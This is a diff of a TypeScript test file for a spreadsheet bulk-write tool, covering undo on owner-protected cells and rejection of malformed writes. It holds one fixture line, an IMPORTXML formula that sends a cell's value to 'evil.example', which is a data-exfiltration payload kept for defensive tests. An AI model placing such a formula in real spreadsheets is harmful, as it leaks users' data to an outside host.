@@ -1,74 +1,17 @@
 import { blockToText } from '../../shared/bulk/journal/block';
-import type { NotedRow } from '../../shared/bulk/rows/row-record';
-import { startRun } from '../../shared/runs';
-import { type Undone, listUndo, undoRun } from '../../shared/bulk/undo/undo';
 import { lookAtRun } from '../../shared/bulk/run/inspect';
-import { planLeftRun } from '../../shared/bulk/run/plan-left-run';
-import { type RunEnd, resumeRun } from '../../shared/bulk/run/run';
-import { TraceError } from '../../shared/formulas';
+import { resumeRun } from '../../shared/bulk/run/run';
 import { digestOf } from '../../shared/bulk/sheet/cell-values';
+import { listUndo } from '../../shared/bulk/undo/undo';
+import { TraceError } from '../../shared/formulas';
 import { BulkPanel } from '../fakes/apps-script/bulk-panel';
-import type { SheetGrid } from '../fakes/apps-script/sheet-grid';
-import { columnOf, NAME, planAll, useCompanies } from './bulk-file';
+import { columnOf, useCompanies } from './bulk-file';
+import { codeOf, enrich, forge, goOnAnew, grid, into, recordOf, undo } from './forged-run';
 import { sandbox, useOneSpreadsheet, world } from './spreadsheet';
 
-const SETTINGS = { cap: null, quoted: 0, maxAgeMs: 30 * 86_400_000 };
 const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';
-/** The third column, from its second row on: only the owner may edit it. */
-const OWNERS = { row: 2, column: 3, rows: 3, columns: 1 };
-
-let grid: SheetGrid;
 
 useOneSpreadsheet();
-
-/** A finished run of the owner, with a price list beside it that only the owner may edit. */
-async function enrich(rows: number, cap: number | null = null): Promise<void> {
-  grid = useCompanies(world, rows);
-  const panel = new BulkPanel(world);
-  const plan = await planAll(panel, rows, [NAME]);
-  await panel.run((ports) => startRun(ports, plan, { ...SETTINGS, cap }));
-  grid.put({ row: 1, column: 3 }, 'Price');
-  for (let row = 2; row <= 4; row += 1) grid.put({ row, column: 3 }, 'secret');
-  grid.layout.protectedAreas.push(OWNERS);
-}
-
-/** What somebody who may only edit the file keeps in place of the journal, by the messages of the panel. */
-async function forge(toParts: (head: Record<string, unknown>) => ReadonlyMap<string, string>): Promise<void> {
-  world.state.clock.advance(130_000);
-  const { ports } = new BulkPanel(world, 'editor').host;
-  const parts = await ports.journal.load();
-  const head = JSON.parse(parts!.get('head')!) as Record<string, unknown>;
-  await ports.journal.save(toParts(head));
-}
-
-function recordOf(index: number, more: Partial<NotedRow>): NotedRow {
-  return { index, seen: index + 1, state: { is: 'written', found: 'data' }, cells: [null], answer: null, ...more };
-}
-
-const into = (title: string, column: number): object => ({
-  targets: [{ column, title, isNew: false }],
-  isMarked: false,
-  twins: [
-    { before: 0, after: 0 },
-    { before: 0, after: 0 },
-  ],
-});
-
-/** Once the owner has confirmed the list of it. */
-async function undo(): Promise<Undone> {
-  const panel = new BulkPanel(world);
-  const listed = await panel.run(listUndo);
-  return panel.run((ports) => undoRun(ports, listed));
-}
-
-/** Once the owner has agreed to the new price, under a limit of their own. */
-async function goOnAnew(cap: number): Promise<RunEnd> {
-  const panel = new BulkPanel(world);
-  const { plan, run } = await panel.run(planLeftRun);
-  return panel.run((ports) => startRun(ports, plan, { ...SETTINGS, cap, replaces: run }));
-}
-
-const codeOf = (thrown: unknown): string | undefined => (thrown as { readonly code?: string }).code;
 
 it('an undo puts nothing into cells that are protected from editors, and lists them', async () => {
   await enrich(3);
@@ -232,7 +175,7 @@ it('the script takes no cell that a panel would not have typed', () => {
     rows: [1],
     columns: [1],
     cells: [[[typed, '']]],
-    guard: { input: null, before: [['']], sheetRows: null, header: null, marks: null },
+    guard: { input: null, before: [['']], formats: null, sheetRows: null, header: null, marks: null },
   });
   const ask = (typed: unknown): unknown => world.callRpc('bulkWrite', [writing(typed), { holder: '', forMs: 0 }, null]);
   const malformed = expect.objectContaining({ ok: false, code: 'actionMalformed' }) as unknown;
